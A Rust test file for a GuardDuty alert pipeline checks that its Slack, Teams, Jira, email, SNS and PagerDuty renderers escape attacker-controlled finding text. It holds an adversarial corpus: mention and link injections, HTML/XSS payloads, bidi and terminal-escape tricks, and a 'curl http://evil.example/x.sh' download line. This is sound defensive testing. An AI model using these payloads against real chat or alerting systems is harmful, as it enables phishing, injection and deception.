//! Renderers: golden files for the shipped fixtures, and an adversarial
//! corpus every renderer must survive (mentions, fake links, HTML, bidi
//! tricks, terminal escapes, a 100 KB command line).
//!
//! Golden files live in `tests/golden/`; after an intended change, run with
//! `GDALERT_BLESS=1` and review the diff.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::path::PathBuf;

use gdalert_event::GuardDutyEvent;
use gdalert_pipeline::alert::{enrich, EnrichOptions};
use gdalert_pipeline::{render, Config, Lifecycle, Payload};
use serde_json::{json, Value};

const ALL_KINDS: &str = include_str!("../../../tests/fixtures/routes/all-destinations.toml");

fn config() -> Config {
    Config::load("routes.toml", ALL_KINDS, &BTreeMap::new()).unwrap()
}

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn fixture(name: &str) -> Value {
    serde_json::from_str(
        &std::fs::read_to_string(root().join("../../tests/fixtures/events").join(name)).unwrap(),
    )
    .unwrap()
}

fn alert_for(event: &Value, lifecycle: Lifecycle) -> gdalert_pipeline::Alert {
    let options = EnrichOptions {
        account_names: config().accounts.clone(),
    };
    enrich(
        &GuardDutyEvent::from_value(event.clone()).unwrap(),
        lifecycle,
        &options,
    )
}

fn payload_value(payload: &Payload) -> Value {
    serde_json::to_value(payload).unwrap()
}

#[test]
fn golden_payloads_for_the_fixtures() {
    let config = config();
    let cases = [
        ("runtime-fargate-c2-high.json", Lifecycle::New),
        ("runtime-eks-reverse-shell-high.json", Lifecycle::Escalation),
        ("runtime-ec2-cryptominer-high.json", Lifecycle::New),
        (
            "runtime-protection-unhealthy-ecs-fargate.real.json",
            Lifecycle::Opened,
        ),
        (
            "runtime-protection-healthy-ec2.real.json",
            Lifecycle::Resolved,
        ),
        (
            "attack-sequence-ecs-compromised-cluster.json",
            Lifecycle::New,
        ),
        ("malware-ecs-malicious-file.json", Lifecycle::New),
    ];
    let bless = std::env::var_os("GDALERT_BLESS").is_some();
    let mut stale = Vec::new();
    for (name, lifecycle) in cases {
        let alert = alert_for(&fixture(name), lifecycle);
        let mut rendered = serde_json::Map::new();
        for (dest_name, destination) in &config.destinations {
            rendered.insert(
                dest_name.clone(),
                payload_value(&render(&alert, destination).unwrap()),
            );
        }
        let got = serde_json::to_string_pretty(&Value::Object(rendered)).unwrap() + "\n";
        let path = root()
            .join("tests/golden")
            .join(name.replace(".json", ".payloads.json"));
        if bless {
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, &got).unwrap();
            continue;
        }
        let want = std::fs::read_to_string(&path).unwrap_or_default();
        if want != got {
            stale.push(path.display().to_string());
        }
    }
    assert!(stale.is_empty(), "rendered payloads differ from golden files (GDALERT_BLESS=1 to update after review): {stale:?}");
}

/// Text an attacker can put in a finding.
fn hostile() -> Vec<(&'static str, String)> {
    vec![
        ("mention", "<!channel> <!here> <!everyone> <@U024BE7LH> <#C123|general> @here".into()),
        ("slack link", "<http://evil.example/login|Open the GuardDuty console>".into()),
        ("markdown link", "[Open the console](http://evil.example/login) ![img](http://evil.example/p.png)".into()),
        ("html", "<script>alert(1)</script><img src=x onerror=alert(2)><a href=\"http://evil.example\">click</a>".into()),
        ("bidi", "/tmp/\u{202E}hs.exe\u{202C} \u{2066}x\u{2069} zero\u{200B}width\u{FEFF}".into()),
        ("terminal", "\x1b[2J\x1b]0;owned\x07 \r\nfake line".into()),
        ("json breaker", "\"}]}\\\",\"admin\":true,\"x\":\"".into()),
        ("emoji and formatting", "*bold* _it_ ~strike~ `code` ```block``` :skull: &amp; &lt;".into()),
        ("long", format!("bash -c '{}'", "A".repeat(100 * 1024))),
        // Every character grows when escaped: limits must hold after escaping.
        ("long entities", format!("bash -c '{}'", "&<>🙂\"".repeat(2000))),
        ("command line of 2,258 characters", format!("sh -c 'a&&b<c>d {}'", "x&y ".repeat(560))),
        // Four bytes per character: a limit counted in characters is exceeded in bytes.
        ("emoji flood", "🙂".repeat(50_000)),
    ]
}

fn hostile_event(text: &str) -> Value {
    let mut event = fixture("runtime-fargate-c2-high.json");
    let process = &mut event["detail"]["service"]["runtimeDetails"]["process"];
    process["name"] = json!(text);
    process["executablePath"] = json!(format!("/tmp/{text}"));
    process["lineage"][0]["name"] = json!(text);
    event["detail"]["service"]["runtimeDetails"]["context"] =
        json!({"commandLineExample": text, "scriptPath": text, "toolName": text});
    event["detail"]["service"]["action"] =
        json!({"dnsRequestAction": {"domain": format!("evil.example {text}")}});
    event["detail"]["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["image"] =
        json!(text);
    event["detail"]["resource"]["ecsClusterDetails"]["taskDetails"]["group"] =
        json!(format!("service:{text}"));
    event["detail"]["description"] = json!(text);
    event
}

fn strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(s) => out.push(s.clone()),
        Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
        Value::Object(map) => map.values().for_each(|v| strings(v, out)),
        _ => {}
    }
}

fn assert_no_invisible(kind: &str, case: &str, text: &str) {
    for bad in [
        '\u{202E}', '\u{202C}', '\u{2066}', '\u{2069}', '\u{200B}', '\u{FEFF}', '\x1b', '\x07',
    ] {
        assert!(!text.contains(bad), "{kind}/{case}: {bad:?} survived");
    }
}

/// An attack sequence whose every attacker-reachable field holds `text`, in
/// lists three times longer than an alert keeps (the API allows up to 100
/// signals and 400 resources; 30 of each with 100 KB texts already makes a
/// 30 MB event).
fn hostile_sequence(text: &str) -> Value {
    let mut event = fixture("attack-sequence-ecs-compromised-cluster.json");
    let signal = json!({"uid": format!("arn:aws:guardduty:eu-west-1:111122223333:detector/d/finding/{text}"),
        "type": "FINDING", "name": text, "description": text, "firstSeenAt": "2026-11-20T10:05:00Z", "count": 2});
    let resource = json!({"uid": text, "name": text, "resourceType": "ECS_CLUSTER"});
    let actor = json!({"id": text, "user": {"name": text, "type": text}, "process": {"name": text, "path": text}});
    let endpoint = json!({"id": text, "ip": text, "domain": text, "autonomousSystem": {"name": text, "number": 64500}, "location": {"city": text}});
    let indicator = json!({"key": "MALICIOUS_DOMAIN", "title": text, "values": [text, text]});
    let sequence = &mut event["detail"]["service"]["detection"]["sequence"];
    sequence["description"] = json!(text);
    sequence["signals"] = json!(vec![signal; 30]);
    sequence["resources"] = json!(vec![resource; 30]);
    sequence["actors"] = json!(vec![actor; 30]);
    sequence["endpoints"] = json!(vec![endpoint; 30]);
    sequence["sequenceIndicators"] = json!(vec![indicator; 30]);
    event["detail"]["description"] = json!(text);
    event
}

#[test]
fn every_renderer_survives_the_adversarial_corpus() {
    let config = config();
    let events = hostile().into_iter().flat_map(|(case, text)| {
        [
            (case, hostile_event(&text)),
            (case, hostile_sequence(&text)),
        ]
    });
    for (case, event) in events {
        let alert = alert_for(&event, Lifecycle::New);
        for (name, destination) in &config.destinations {
            let payload = render(&alert, destination).unwrap();
            match (name.as_str(), &payload) {
                ("slack", Payload::Json { body }) => check_slack(case, body),
                ("teams", Payload::Json { body }) => check_teams(case, body),
                ("google_chat", Payload::Json { body }) => check_google_chat(case, body),
                ("jira", Payload::Json { body }) => check_jira(case, body),
                (
                    "email",
                    Payload::Email {
                        subject,
                        text,
                        html,
                    },
                ) => {
                    assert!(
                        !subject.contains('\n') && subject.chars().count() <= 200,
                        "email/{case}: subject {subject:?}"
                    );
                    check_html(case, html);
                    assert_no_invisible("email", case, text);
                    assert_no_invisible("email", case, html);
                    assert!(
                        !text.contains("http://evil"),
                        "email/{case}: live link in text"
                    );
                }
                (
                    "sns",
                    Payload::Sns {
                        subject,
                        message,
                        attributes,
                    },
                ) => {
                    assert!(
                        subject.is_ascii()
                            && subject.len() < 100
                            && !subject.chars().any(|c| c.is_control()),
                        "sns/{case}: {subject:?}"
                    );
                    // SNS counts bytes of the message, subject and attributes together.
                    let total = subject.len()
                        + message.len()
                        + attributes
                            .iter()
                            .map(|(k, v)| k.len() + v.len() + 6)
                            .sum::<usize>();
                    assert!(total <= 256 * 1024, "sns/{case}: {total} bytes");
                    for key in [
                        "severity",
                        "type",
                        "account",
                        "region",
                        "cluster",
                        "lifecycle",
                    ] {
                        let v = attributes
                            .get(key)
                            .unwrap_or_else(|| panic!("sns/{case}: attribute {key} missing"));
                        assert!(
                            !v.is_empty() && !v.chars().any(|c| c.is_control()),
                            "sns/{case}: {key}={v:?}"
                        );
                    }
                    assert_no_invisible("sns", case, message);
                }
                ("pagerduty", Payload::Json { body }) => {
                    let summary = body["payload"]["summary"].as_str().unwrap();
                    assert!(
                        summary.chars().count() <= 1024,
                        "pagerduty/{case}: summary too long"
                    );
                    assert!(
                        body.get("routing_key").is_none(),
                        "the routing key is the sender's to add"
                    );
                    assert!(
                        body.to_string().len() < 512 * 1024,
                        "pagerduty/{case}: body over 512 KB"
                    );
                    assert!(!summary.contains("http://evil"));
                }
                ("webhook" | "eventbridge", Payload::Json { body }) => {
                    let reparsed: Value = serde_json::from_str(&body.to_string()).unwrap();
                    assert_eq!(&reparsed, body);
                    if name == "eventbridge" {
                        let detail: Value =
                            serde_json::from_str(body["Detail"].as_str().unwrap()).unwrap();
                        assert_eq!(detail["version"], "gdalert.alert/v1");
                        assert!(
                            body.to_string().len() < 256 * 1024,
                            "eventbridge/{case}: entry over 256 KB"
                        );
                    }
                    let mut all = Vec::new();
                    strings(body, &mut all);
                    all.iter().for_each(|s| assert_no_invisible(name, case, s));
                }
                ("stdout", Payload::Text { text }) => assert_no_invisible("stdout", case, text),
                (other, payload) => panic!("unexpected payload for {other}: {payload:?}"),
            }
        }
    }
}

fn check_slack(case: &str, body: &Value) {
    let blocks = body["blocks"].as_array().unwrap();
    assert!(blocks.len() <= 50, "slack/{case}: {} blocks", blocks.len());
    let mut mrkdwn = vec![body["text"].as_str().unwrap().to_string()];
    for block in blocks {
        match block["type"].as_str().unwrap() {
            "header" => assert!(
                block["text"]["text"].as_str().unwrap().chars().count() <= 150,
                "slack/{case}: header too long"
            ),
            "section" => {
                if let Some(text) = block["text"]["text"].as_str() {
                    assert!(
                        text.chars().count() <= 3000,
                        "slack/{case}: section text too long"
                    );
                    mrkdwn.push(text.to_string());
                }
                if let Some(fields) = block["fields"].as_array() {
                    assert!(fields.len() <= 10, "slack/{case}: {} fields", fields.len());
                    for f in fields {
                        let t = f["text"].as_str().unwrap();
                        assert!(t.chars().count() <= 2000, "slack/{case}: field too long");
                        mrkdwn.push(t.to_string());
                    }
                }
            }
            "context" => block["elements"]
                .as_array()
                .unwrap()
                .iter()
                .for_each(|e| mrkdwn.push(e["text"].as_str().unwrap().to_string())),
            _ => {}
        }
    }
    for text in &mrkdwn {
        // Slack's control sequences all start with '<': none may reach Slack unescaped.
        assert!(
            !text.contains('<') && !text.contains('>'),
            "slack/{case}: control sequence in {text:.200}"
        );
        assert!(
            !text.contains("http://evil"),
            "slack/{case}: live link in {text:.200}"
        );
        assert_no_invisible("slack", case, text);
    }
    let mut all = Vec::new();
    strings(body, &mut all);
    all.iter()
        .for_each(|s| assert_no_invisible("slack", case, s));
    assert_eq!(body["unfurl_links"], false);
}

fn check_teams(case: &str, body: &Value) {
    let size = body.to_string().len();
    assert!(size < 28 * 1024, "teams/{case}: card is {size} bytes");
    let card = &body["attachments"][0]["content"];
    assert_eq!(card["version"], "1.4");
    let mut all = Vec::new();
    strings(&card["body"], &mut all);
    for text in &all {
        assert!(
            !text.contains("](http"),
            "teams/{case}: markdown link in {text:.200}"
        );
        assert!(
            !text.contains("<script") && !text.contains("<a "),
            "teams/{case}: HTML in {text:.200}"
        );
        assert!(
            !text.contains("http://evil"),
            "teams/{case}: live link in {text:.200}"
        );
        assert_no_invisible("teams", case, text);
    }
}

fn check_google_chat(case: &str, body: &Value) {
    // Chat refuses messages over 32,000 bytes.
    let size = body.to_string().len();
    assert!(
        size <= 32_000,
        "google_chat/{case}: message is {size} bytes"
    );
    let card = &body["cardsV2"][0]["card"];
    let mut all = Vec::new();
    strings(card, &mut all);
    for text in &all {
        let lower = text.to_ascii_lowercase();
        // Only our own tags: <b>, <br>.
        let tags = lower.matches('<').count();
        let ours = lower.matches("<b>").count()
            + lower.matches("</b>").count()
            + lower.matches("<br>").count();
        assert_eq!(tags, ours, "google_chat/{case}: markup in {text:.300}");
        assert!(
            !lower.contains("http://evil"),
            "google_chat/{case}: live link in {text:.200}"
        );
        assert!(
            !text.contains("<users/"),
            "google_chat/{case}: a mention in {text:.200}"
        );
        assert_no_invisible("google_chat", case, text);
    }
    let key = body["thread"]["threadKey"].as_str().unwrap();
    assert!(key.starts_with("gdalert-") && key.len() == 40, "{key}");
}

fn check_jira(case: &str, body: &Value) {
    let fields = &body["issue"]["fields"];
    let summary = fields["summary"].as_str().unwrap();
    assert!(
        !summary.is_empty() && summary.chars().count() <= 255 && !summary.contains('\n'),
        "jira/{case}: summary {summary:.300}"
    );
    for (which, doc) in [
        ("description", &fields["description"]),
        ("comment", &body["comment"]["body"]),
    ] {
        // Jira keeps a rich-text field within 32,767 characters.
        let size = doc.to_string().chars().count();
        assert!(size <= 32_767, "jira/{case}: {which} is {size} characters");
        assert_eq!(
            gdalert_pipeline::render::jira::adf_problem(doc),
            None,
            "jira/{case}: {which}"
        );
        let mut hrefs = Vec::new();
        link_marks(doc, &mut hrefs);
        assert!(
            hrefs
                .iter()
                .all(|h| h.starts_with("https://") && !h.contains("evil")),
            "jira/{case}: {hrefs:?}"
        );
    }
    let mut all = Vec::new();
    strings(body, &mut all);
    for text in &all {
        assert!(
            !text.contains("http://evil"),
            "jira/{case}: live link in {text:.200}"
        );
        assert_no_invisible("jira", case, text);
    }
    for label in fields["labels"].as_array().unwrap() {
        assert!(
            !label.as_str().unwrap().contains(' '),
            "jira/{case}: {label}"
        );
    }
}

/// The targets of every link mark in an ADF tree.
fn link_marks(node: &Value, out: &mut Vec<String>) {
    for mark in node["marks"].as_array().into_iter().flatten() {
        if mark["type"] == "link" {
            out.push(
                mark["attrs"]["href"]
                    .as_str()
                    .unwrap_or_default()
                    .to_string(),
            );
        }
    }
    for child in node["content"].as_array().into_iter().flatten() {
        link_marks(child, out);
    }
}

fn check_html(case: &str, html: &str) {
    let lower = html.to_ascii_lowercase();
    assert!(
        !lower.contains("<script") && !lower.contains("<img"),
        "email/{case}: HTML injected"
    );
    assert!(
        !lower.contains("href=\"http://evil"),
        "email/{case}: attacker link"
    );
    assert!(!lower.contains("http://evil"), "email/{case}: live link");
    // Only our own tags: count them.
    let allowed = [
        "<br>",
        "<!doctype",
        "<html",
        "</html",
        "<body",
        "</body",
        "<h2",
        "</h2",
        "<h3",
        "</h3",
        "<p",
        "</p",
        "<em",
        "</em",
        "<table",
        "</table",
        "<tr",
        "</tr",
        "<th",
        "</th",
        "<td",
        "</td",
        "<code",
        "</code",
        "<ol",
        "</ol",
        "<ul",
        "</ul",
        "<li",
        "</li",
        "<a href=\"https://",
        "</a",
    ];
    for (i, _) in lower.match_indices('<') {
        assert!(
            allowed.iter().any(|tag| lower[i..].starts_with(tag)),
            "email/{case}: unexpected tag at {:.60}",
            &html[i..]
        );
    }
}

#[test]
fn template_overrides_cannot_skip_escaping() {
    let text = ALL_KINDS.replace(
        "[destinations.slack]\nkind = \"slack\"",
        "[destinations.slack]\nkind = \"slack\"\ntemplates = { title = \"{{ alert.resource.process.name|safe }} on {{ alert.resource.cluster }}\", text = \"cmd: {{ alert.resource.process.command_line }}\" }",
    );
    let config = Config::load("routes.toml", &text, &BTreeMap::new()).unwrap();
    let alert = alert_for(
        &hostile_event("<!channel> <http://evil.example|x>"),
        Lifecycle::New,
    );
    let Payload::Json { body } = render(&alert, &config.destinations["slack"]).unwrap() else {
        panic!()
    };
    let fallback = body["text"].as_str().unwrap();
    assert!(fallback.starts_with("&lt;!channel&gt;"), "{fallback}");
    assert!(!fallback.contains("http://"), "{fallback}");
    let section = body["blocks"][1]["text"]["text"].as_str().unwrap();
    assert!(section.starts_with("cmd: &lt;!channel&gt;"), "{section}");
}

#[test]
fn pagerduty_resolves_coverage_with_the_same_dedup_key() {
    let config = config();
    let unhealthy = fixture("runtime-protection-unhealthy-ecs-fargate.real.json");
    let mut healthy = unhealthy.clone();
    healthy["detail-type"] = json!("GuardDuty Runtime Protection Healthy");
    healthy["detail"]["currentStatus"] = json!("Healthy");
    let pd = &config.destinations["pagerduty"];
    let Payload::Json { body: trigger } =
        render(&alert_for(&unhealthy, Lifecycle::Opened), pd).unwrap()
    else {
        panic!()
    };
    let Payload::Json { body: resolve } =
        render(&alert_for(&healthy, Lifecycle::Resolved), pd).unwrap()
    else {
        panic!()
    };
    assert_eq!(trigger["event_action"], "trigger");
    assert_eq!(resolve["event_action"], "resolve");
    assert_eq!(trigger["dedup_key"], resolve["dedup_key"]);
}

#[test]
fn the_sns_cluster_attribute_is_only_ever_a_cluster() {
    // Regression: EC2 findings put the instance id under `cluster`, so
    // subscription filter policies on `cluster` misfired.
    let config = config();
    let sns = config
        .destinations
        .values()
        .find(|d| d.kind() == gdalert_pipeline::DestinationKind::Sns)
        .cloned()
        .unwrap_or_else(|| panic!("the test routes have an SNS destination"));
    let alert = alert_for(
        &fixture("runtime-ec2-cryptominer-high.json"),
        Lifecycle::New,
    );
    let Payload::Sns { attributes, .. } = gdalert_pipeline::render(&alert, &sns).unwrap() else {
        panic!("SNS payload")
    };
    assert!(!attributes.contains_key("cluster"), "{attributes:?}");
    assert_eq!(
        attributes.get("instance").map(String::as_str),
        Some("i-0a1b2c3d4e5f60718")
    );
}

#[test]
fn multi_line_descriptions_keep_their_line_breaks_in_every_body() {
    // Regression: every newline of AWS's multi-line descriptions (each attack
    // sequence has one) arrived as a literal backslash-n.
    let config = config();
    let alert = alert_for(
        &fixture("attack-sequence-ecs-compromised-cluster.json"),
        Lifecycle::New,
    );
    let source = alert.description.clone().unwrap_or_default();
    assert!(source.contains('\n'), "the fixture's description has lines");
    // (The EventBridge entry's Detail is JSON text: its `\n` escapes are JSON's.)
    for destination in config
        .destinations
        .values()
        .filter(|d| d.kind() != gdalert_pipeline::DestinationKind::Eventbridge)
    {
        let payload = gdalert_pipeline::render(&alert, destination).unwrap();
        let mut texts = Vec::new();
        strings(&payload_value(&payload), &mut texts);
        for text in texts.iter().filter(|t| {
            t.contains("3 MITRE ATT&CK tactics") || t.contains("3 MITRE ATT&amp;CK tactics")
        }) {
            assert!(
                !text.contains("\\n"),
                "{}: a literal backslash-n where the description had a line break: {text:.300}",
                destination.name
            );
        }
    }
}

#[test]
fn pagerduty_details_are_defanged_and_keep_every_repeated_label() {
    // Regression: custom_details showed attacker links live, and a label
    // that repeats (three coverage issues) kept only the last value.
    let config = config();
    let alert = alert_for(
        &hostile_event("curl http://evil.example/x.sh"),
        Lifecycle::New,
    );
    let Payload::Json { body } = render(&alert, &config.destinations["pagerduty"]).unwrap() else {
        panic!("PagerDuty renders JSON")
    };
    let details = body["payload"]["custom_details"].to_string();
    assert!(!details.contains("http://evil"), "{details}");
    assert!(!details.contains("evil.example"), "{details}");
    assert!(details.contains("evil[.]example"), "{details}");

    let mut alert = alert_for(
        &fixture("runtime-protection-unhealthy-ecs-fargate.real.json"),
        Lifecycle::Opened,
    );
    let issue = alert.coverage_issues[0].clone();
    alert.coverage_issues = vec![issue.clone(), issue.clone(), issue];
    alert.coverage_issues[1].detail = "second".into();
    alert.coverage_issues[2].detail = "third".into();
    let Payload::Json { body } = render(&alert, &config.destinations["pagerduty"]).unwrap() else {
        panic!("PagerDuty renders JSON")
    };
    let issues = body["payload"]["custom_details"]["Issue"]
        .as_array()
        .unwrap_or_else(|| panic!("{body}"));
    assert_eq!(issues.len(), 3, "{issues:?}");
}

#[test]
fn a_template_that_fails_at_render_time_is_reported_not_swallowed() {
    // Compiles (so `validate` and init accept it), fails per alert: a string
    // plus a number. The built-in title stands in, and the caller learns of it.
    let text = ALL_KINDS.replace(
        "[destinations.slack]\nkind = \"slack\"",
        "[destinations.slack]\nkind = \"slack\"\ntemplates = { title = \"{{ alert.title + 1 }}\" }",
    );
    let custom = Config::load("routes.toml", &text, &BTreeMap::new()).unwrap();
    let alert = alert_for(&fixture("runtime-fargate-c2-high.json"), Lifecycle::New);
    let rendered =
        gdalert_pipeline::render::render_noting(&alert, &custom.destinations["slack"]).unwrap();
    assert_eq!(rendered.template_errors.len(), 1, "{rendered:?}");
    let Payload::Json { body } = rendered.payload else {
        panic!()
    };
    let title = body["text"].as_str().unwrap();
    assert!(
        title.contains("Backdoor:Runtime/C&amp;CActivity.B"),
        "{title}"
    );
    let clean =
        gdalert_pipeline::render::render_noting(&alert, &config().destinations["slack"]).unwrap();
    assert!(clean.template_errors.is_empty());
}

#[test]
fn aws_written_identifiers_are_shown_as_aws_wrote_them_in_every_destination() {
    // Regression: the finding type was defanged (`C&CActivity[.]B`) in the
    // Teams, email and PagerDuty facts but not in Slack, and Teams escaped
    // `-`, `(`, `.` everywhere (`eu\-west\-1`), which phones show literally.
    let config = config();
    let alert = alert_for(&fixture("runtime-fargate-c2-high.json"), Lifecycle::New);
    for (name, destination) in &config.destinations {
        let text = payload_value(&render(&alert, destination).unwrap()).to_string();
        assert!(!text.contains("Activity[.]B"), "{name}: {text}");
        assert!(
            text.contains("C&CActivity.B") || text.contains("C&amp;CActivity.B"),
            "{name}: {text}"
        );
        if name == "teams" {
            assert!(!text.contains(r"eu\\-west\\-1"), "{text}");
            assert!(text.contains("eu-west-1"), "{text}");
        }
    }
}

#[test]
fn an_event_with_no_specific_view_gets_the_generic_view_not_an_empty_alert() {
    // Regression: any other aws.guardduty detail-type became an alert with
    // a title and nothing else.
    let event = json!({
        "version": "0", "id": "scan-1", "detail-type": "GuardDuty Malware Protection Object Scan Result",
        "source": "aws.guardduty", "account": "111122223333", "time": "2026-11-20T10:00:00Z",
        "region": "eu-west-1", "resources": [],
        "detail": {"schemaVersion": "1.0", "scanStatus": "COMPLETED",
            "s3ObjectDetails": {"bucketName": "uploads", "objectKey": "x.exe"},
            "scanResultDetails": {"scanResultStatus": "THREATS_FOUND", "threats": [{"name": "EICAR-Test-File"}]}}
    });
    let alert = alert_for(&event, Lifecycle::Other);
    let config = config();
    let Payload::Text { text } = render(&alert, &config.destinations["stdout"]).unwrap() else {
        panic!()
    };
    for expected in [
        "no specific view",
        "2026-11-20 10:00:00 UTC",
        "scanResultDetails.scanResultStatus",
        "THREATS_FOUND",
        "scanResultDetails.threats.0.name",
        "EICAR-Test-File",
        "uploads",
    ] {
        assert!(text.contains(expected), "{expected}: {text}");
    }
}

#[test]
fn an_attack_sequence_lists_its_signals_in_order_in_every_destination_and_says_what_it_left_out() {
    let config = config();
    let mut event = fixture("attack-sequence-ecs-compromised-cluster.json");
    let sequence = &mut event["detail"]["service"]["detection"]["sequence"];
    // 25 signals more than the three of the fixture, all later than them.
    let signals = sequence["signals"].as_array_mut().unwrap();
    for i in 0..25 {
        signals.push(
            json!({"uid": format!("later-{i}"), "type": "CLOUD_TRAIL", "name": format!("Api{i}"),
            "firstSeenAt": format!("2026-11-21T{:02}:00:00Z", i % 24)}),
        );
    }
    let alert = alert_for(&event, Lifecycle::New);
    let headings: Vec<&str> = alert.sections.iter().map(|s| s.heading.as_str()).collect();
    assert_eq!(
        headings,
        [
            "Signals",
            "Resources",
            "Actors",
            "Network endpoints",
            "Indicators"
        ]
    );
    assert_eq!(alert.resource.cluster.as_deref(), Some("payments-prod"));
    for (name, destination) in &config.destinations {
        let text = match render(&alert, destination).unwrap() {
            Payload::Json { body } => body.to_string(),
            Payload::Email { text, html, .. } => format!("{text}{html}"),
            Payload::Sns { message, .. } => message,
            Payload::Text { text } => text,
        };
        if name == "eventbridge" || name == "webhook" {
            // Machine outputs carry the sections as data.
            // (EventBridge's `Detail` is JSON inside a JSON string.)
            let text = text.replace("\\\"", "\"");
            assert!(text.contains("\"left_out\":18"), "{name}: {text:.300}");
            continue;
        }
        // Earliest first: the C&C signal (10:05) before the reverse shell
        // (10:15), in the list (the description names them too).
        let text = &text[text.find("Signals").expect("a Signals heading")..];
        let first = text
            .find("Backdoor:Runtime/C&CActivity.B")
            .or_else(|| text.find("Backdoor:Runtime/C&amp;CActivity.B"));
        let second = text.find("Execution:Runtime/ReverseShell");
        assert!(
            matches!((first, second), (Some(a), Some(b)) if a < b),
            "{name}: signals out of order or missing"
        );
        // 28 signals, 10 kept: the rest is counted, not dropped silently.
        assert!(
            text.contains("and 18 more not shown"),
            "{name}: no count of what was left out"
        );
        // (Teams escapes the brackets for its markdown: `\[.\]`.)
        assert!(
            text.replace('\\', "").contains("pool[.]minexmr[.]example"),
            "{name}: endpoint not defanged or missing"
        );
    }
}
